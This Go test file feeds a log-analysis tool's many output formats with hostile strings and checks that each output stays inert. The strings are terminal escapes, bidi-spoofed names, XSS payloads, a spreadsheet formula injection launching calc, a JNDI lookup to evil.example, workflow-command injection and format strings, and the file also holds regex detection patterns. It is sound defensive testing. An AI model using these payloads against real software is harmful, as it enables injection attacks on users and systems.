package main

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"text/tabwriter"
	"time"
)

// A caseTable is what cases led to, as `go test -v` shows it.
type caseTable struct {
	b strings.Builder
	w *tabwriter.Writer
}

func newCaseTable(head ...string) *caseTable {
	c := &caseTable{}
	c.w = tabwriter.NewWriter(&c.b, 0, 0, 2, ' ', 0)
	c.row(head...)
	return c
}

func (c *caseTable) row(cells ...string) { fmt.Fprintln(c.w, strings.Join(cells, "\t")) }

func (c *caseTable) show(t *testing.T) {
	c.w.Flush()
	t.Log("\n" + c.b.String())
}

// evils are texts that act where a product does not escape them.
var evils = []struct{ name, text string }{
	{"terminal escapes", "\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\\u009b2J\x08\x7f\r"},
	{"order of letters", "\u202egnp.exe\u2066\u200b\u2028\ufeff"},
	{"HTML", `</script><script>owned()</script><img src=x onerror=owned()><svg/onload=owned()>`},
	{"HTML attributes", `" onmouseover="owned()" x='y' javascript:owned() &lt;b&gt; <!-- ]]>`},
	{"Markdown", "![owned](http://evil.example/x) [owned](javascript:owned()) <b>owned</b> @owned #1 ``` ~~~ | a | # owned"},
	{"spreadsheet formulas", `=cmd|' /C calc'!A0 +1+1 -2+3 @SUM(1) "=1+1"`},
	{"workflow commands", "::error::owned %0A::stop-commands::z ##[error]owned"},
	{"metrics and templates", `"} 1 timeline_owned 1 {{.Owned}} ${jndi:ldap://evil.example/a} $(owned) %s%n%d`},
	{"bytes", "\x00\xff\xfe\xc0\x80\xed\xa0\x80 \ufffe\U000e0001"},
}

// evilLogs writes logs in which every text that reaches a report is evil, in a
// shape that leads to findings.
func evilLogs(t *testing.T, evil string) string {
	t.Helper()
	dir := t.TempDir()
	quoted, err := json.Marshal(evil)
	if err != nil {
		t.Fatal(err)
	}
	inner := strings.Trim(string(quoted), `"`)
	line := strings.NewReplacer("\n", " ", "\r", " ").Replace(evil)
	var events, text strings.Builder
	for i := range 4 {
		id := fmt.Sprintf("j%d %s", i, inner)
		fmt.Fprintf(&events, `{"topic":"put%sStart","eventTime":"2026-01-01T00:00:0%d.000Z","jobId":"%s","thread":"t %s","host":"a.example"}`+"\n", inner, i, id, inner)
		fmt.Fprintf(&events, `{"topic":"put%sError","eventTime":"2026-01-01T00:00:05.%d00Z","jobId":"%s","thread":"t %s","host":"a.example","exception":"java.net.UnknownHostException: a.example: Temporary failure in name resolution","message":"%s"}`+"\n", inner, i, id, inner, inner)
		fmt.Fprintf(&text, "2026-01-01 00:00:0%d.471 ERROR [w-%s] c.e.Job - failed %s jobId=k%d%s host=a.example elapsedMs=2\n", 6+i%3, line, line, i, line)
		fmt.Fprintf(&text, "%s\njava.net.UnknownHostException: a.example %s\n\tat java.base/java.net.InetAddress$CachedAddresses.get(InetAddress.java:801)\n\tat java.base/java.net.InetAddress.getAllByName0(InetAddress.java:1533)\n\tat %s.x(Y.java:1)\n", line, line, line)
	}
	events.WriteString("{\"topic\":\"" + inner + "\n")
	name := strings.NewReplacer("/", "", "\x00", "").Replace("app" + evil + ".log")
	for n, data := range map[string]string{"events.ndjson": events.String(), name: text.String()} {
		if err := os.WriteFile(filepath.Join(dir, n), []byte(data), 0o666); err != nil {
			t.Skipf("this file system refuses the name %q: %v", n, err)
		}
	}
	return dir
}

// evilProducts are all products, by the arguments that make them.
func evilProducts() map[string][]string {
	products := map[string][]string{}
	for _, f := range []string{"text", "md", "html", "json", "brief", "status", "sarif", "github", "junit", "prom"} {
		products[f] = []string{"analyze", "--format", f}
	}
	for _, f := range []string{"chrome", "otlp", "timesketch", "grafana"} {
		products[f] = []string{"export", "--to", f}
	}
	for _, f := range []string{".svg", ".png", ".pdf"} {
		products[f] = []string{"analyze", "-o", "chart" + f}
	}
	products["formats"] = []string{"formats"}
	products["map"] = []string{"map"}
	return products
}

// TestHostileText: text of a log acts in no product, neither in a terminal nor
// in a browser, a forge or a program that reads the product.
func TestHostileText(t *testing.T) {
	table := newCaseTable("text of the log", "products", "result")
	for _, evil := range evils {
		t.Run(evil.name, func(t *testing.T) {
			dir := evilLogs(t, evil.text)
			t.Chdir(t.TempDir())
			n := 0
			for name, args := range evilProducts() {
				var out, errs bytes.Buffer
				code := run(append(args, dir), hostileEnvironment(&out, &errs))
				b := out.Bytes()
				if strings.HasPrefix(name, ".") {
					b, _ = os.ReadFile("chart" + name)
				}
				if code != 0 || len(b) == 0 {
					t.Errorf("%s: exit code %d, %d bytes: %s", name, code, len(b), &errs)
				}
				if err := harmless(name, b); err != nil {
					t.Errorf("%s: %v", name, err)
				}
				if m := acting.Find(errs.Bytes()); m != nil {
					t.Errorf("%s: standard error holds %q", name, m)
				}
				n++
			}
			result := "nothing acts"
			if t.Failed() {
				result = "FAILED"
			}
			table.row(evil.name, fmt.Sprint(n), result)
		})
	}
	table.row("", "", "no product is CSV: nothing opens in a spreadsheet by itself")
	table.show(t)
}

func hostileEnvironment(out, errs io.Writer) environment {
	return environment{in: strings.NewReader(""), out: out, err: errs, now: time.Now, lookup: func(string) (string, bool) { return "", false }}
}

var (
	acting   = regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{200b}\x{2028}-\x{202e}\x{2066}-\x{2069}\x{feff}\x{e0001}]`)
	rawBytes = regexp.MustCompile(`[\x00-\x08\x0b-\x1f]`)
	mdActing = regexp.MustCompile(`<[a-zA-Z/!]|[^\\]\]\([^#]|[^\\]!\[|(^|\s)@owned|(^|\s)#1\b|^ {0,3}#+ owned`)
)

// harmless says what of a product could act.
func harmless(name string, b []byte) error {
	switch name {
	case ".png", ".pdf":
		return nil // letters are drawn; names of files and hosts are not in it
	case "json", "sarif", "chrome", "otlp", "grafana":
		if !json.Valid(b) {
			return errors.New("is no JSON")
		}
		if m := rawBytes.Find(b); m != nil {
			return fmt.Errorf("holds %q", m)
		}
		return nil
	case "timesketch", "map":
		return jsonRows(name, b)
	case "html":
		return harmlessPage(b)
	}
	if m := acting.Find(b); m != nil {
		return fmt.Errorf("holds %q", m)
	}
	switch name {
	case ".svg", "junit":
		return harmlessXML(b)
	case "md":
		return harmlessMarkdown(string(b))
	case "github":
		for l := range strings.Lines(string(b)) {
			if !regexp.MustCompile(`^::(error|warning|notice) `).MatchString(l) {
				return fmt.Errorf("a line of its own: %q", l)
			}
		}
	case "prom":
		for l := range strings.Lines(string(b)) {
			if strings.HasPrefix(l, "timeline_owned") {
				return fmt.Errorf("a series of its own: %q", l)
			}
		}
	}
	return nil
}

func jsonRows(name string, b []byte) error {
	for l := range bytes.Lines(b) {
		if name == "map" {
			_, l, _ = bytes.Cut(l, []byte("\t"))
		}
		if !json.Valid(l) {
			return fmt.Errorf("a line is no JSON: %.200q", l)
		}
		if m := rawBytes.Find(bytes.TrimSuffix(l, []byte("\n"))); m != nil {
			return fmt.Errorf("holds %q", m)
		}
	}
	return nil
}

// harmlessPage: text of a log begins no element and ends none; the data lie in
// an element that no browser runs.
func harmlessPage(b []byte) error {
	page := regexp.MustCompile(`(?s)<script.*?</script>`).ReplaceAll(b, nil)
	if n := bytes.Count(b, []byte("<script")); n != 2 {
		return fmt.Errorf("%d scripts", n)
	}
	if m := acting.Find(page); m != nil {
		return fmt.Errorf("holds %q", m)
	}
	if m := regexp.MustCompile(`(?i)<img|<svg/|<b>|<[^>"']*\s(on\w+|src)\s*=`).Find(page); m != nil {
		return fmt.Errorf("holds %q", m)
	}
	return nil
}

func harmlessXML(b []byte) error {
	d := xml.NewDecoder(bytes.NewReader(b))
	for {
		token, err := d.Token()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		e, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		switch strings.ToLower(e.Name.Local) {
		case "script", "foreignobject", "img", "image", "iframe", "b":
			return fmt.Errorf("element %s", e.Name.Local)
		}
		for _, a := range e.Attr {
			if strings.HasPrefix(a.Name.Local, "on") || strings.Contains(a.Value, "javascript:") && a.Name.Local == "href" {
				return fmt.Errorf("attribute %s of %s", a.Name.Local, e.Name.Local)
			}
		}
	}
}

// harmlessMarkdown looks at what stands outside of code spans.
func harmlessMarkdown(s string) error {
	for l := range strings.Lines(s) {
		plain := outsideCode(strings.TrimSuffix(l, "\n"))
		if m := mdActing.FindString(plain); m != "" && !strings.HasPrefix(plain, "<details") && !strings.HasPrefix(plain, "</") && !strings.HasPrefix(plain, "<summary") {
			return fmt.Errorf("%q in %q", m, l)
		}
	}
	return nil
}

// outsideCode leaves out the code spans of a line, as CommonMark 6.1 has them: a
// run of backticks ends at the next run of the same length.
func outsideCode(s string) string {
	ticks := func(s string) int { return len(s) - len(strings.TrimLeft(s, "`")) }
	var b strings.Builder
	for s != "" {
		n := ticks(s)
		if n == 0 {
			w := 1
			if s[0] == '\\' && len(s) > 1 {
				w = 2
			}
			b.WriteString(s[:w])
			s = s[w:]
			continue
		}
		end := n
		for end < len(s) && ticks(s[end:]) != n {
			end += max(1, ticks(s[end:]))
		}
		if end >= len(s) {
			end = 0
			b.WriteString(s[:n])
		}
		s = s[end+n:]
	}
	return b.String()
}
